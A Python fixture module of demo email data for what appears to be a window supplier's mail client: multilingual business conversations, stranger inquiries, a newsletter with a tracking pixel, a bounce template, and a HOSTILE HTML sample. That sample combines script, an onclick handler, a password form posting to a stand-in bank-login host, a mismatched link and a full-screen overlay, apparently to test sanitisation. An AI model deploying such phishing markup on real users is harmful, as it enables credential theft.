"""What people in the demo write to one another."""

from __future__ import annotations

CONVERSATIONS = [
    (
        "Windows for the school in Lviv",
        [
            "Good morning,\n\ncould you send me your price list for oak windows? We need 24 of them by spring.",
            "Good morning,\n\nwith pleasure: the list is on its way. Which sizes do you need?",
            "1,200 by 1,400 mm, all of them. When could you measure on site?",
            "Next Tuesday at ten would suit us. Shall we say so?",
            "Tuesday at ten is fine. See you there.",
        ],
    ),
    (
        "Рахунок за жовтень",
        [
            "Доброго дня!\n\nНадішліть, будь ласка, рахунок за жовтень ще раз: у нас його немає.",
            "Доброго дня!\n\nНадсилаю. Перепрошую за затримку.",
            "Дякую, отримали. Оплатимо до п'ятниці.",
        ],
    ),
    (
        "Delivery on Friday",
        [
            "Hello,\n\nthe lorry can't enter our yard on Friday before noon. Could it come later?",
            "Hello,\n\nthe driver will call you an hour ahead, not before one o'clock.",
            "Perfect, thank you.",
        ],
    ),
    (
        "Angebot Haustür",
        [
            "Guten Tag,\n\nist das Angebot für die Haustür noch gültig? Wir würden gern bestellen.",
            "Guten Tag,\n\nja, bis Ende des Monats. Soll ich die Bestellung vorbereiten?",
            "Ja bitte, in Anthrazit. Mit freundlichen Grüßen",
        ],
    ),
    (
        "Scratched pane",
        [
            "One pane of the last delivery has a scratch of ten centimetres. What do you need from us?",
            "I am sorry to hear that. A picture and the number on the frame are enough.",
        ],
    ),
]

STRANGERS = [
    (
        "Halyna Bondar",
        "h.bondar@bondar-bau.example",
        "Request for a quotation",
        "Good afternoon,\n\nwe build twelve houses near Ternopil and look for a supplier of windows. "
        "Could we talk this week?\n\n-- \nHalyna Bondar\nHead of purchasing\nBondar Bau GmbH\n"
        "Phone: +380 44 234 56 78\nMobile: +380 67 123 45 67\nwww.bondar-bau.example\n",
    ),
    (
        "Marek Zielinski",
        "marek.zielinski@okna-plus.example",
        "Współpraca",
        "Dzień dobry,\n\ninteresuje nas współpraca przy montażu okien w Krakowie.\n\n-- \n"
        "Marek Zieliński\nOkna Plus Sp. z o.o.\n"
        "tel. +48 12 345 67 89\n",
    ),
]

NEWSLETTER = (
    "This week: triple glazing, and why it pays.",
    "<h1>This week in glass</h1><p>Triple glazing, and why it pays.</p>"
    '<img src="https://windowweek.example/open.gif" alt="" width="1" height="1">',
)

HOSTILE = (
    '<p onclick="alert(1)">Your invoice is overdue.</p><script>fetch("https://bank-login.example/")</script>'
    '<img src="https://bank-login.example/seen.png"><form action="https://bank-login.example/take">'
    '<input name="password"><button>Sign in</button></form>'
    '<a href="https://bank-login.example/">https://rapport.example/invoice</a>'
    '<div style="position: fixed; inset: 0; background: url(https://bank-login.example/bg.png)">Pay now</div>'
)

BOUNCE = """From: {sender}
To: {to}
Subject: Undelivered Mail
Date: {date}
Message-ID: <{id}@mx.example>
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type="delivery-status"; boundary="report"

--report
Content-Type: text/plain; charset=utf-8

This is the mail system.

Your message could not be delivered to one or more recipients.

--report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.example

Final-Recipient: rfc822; nobody@old-customer.example
Action: failed
Status: 5.1.1
Diagnostic-Code: smtp; 550 5.1.1 No such user here

--report--
"""
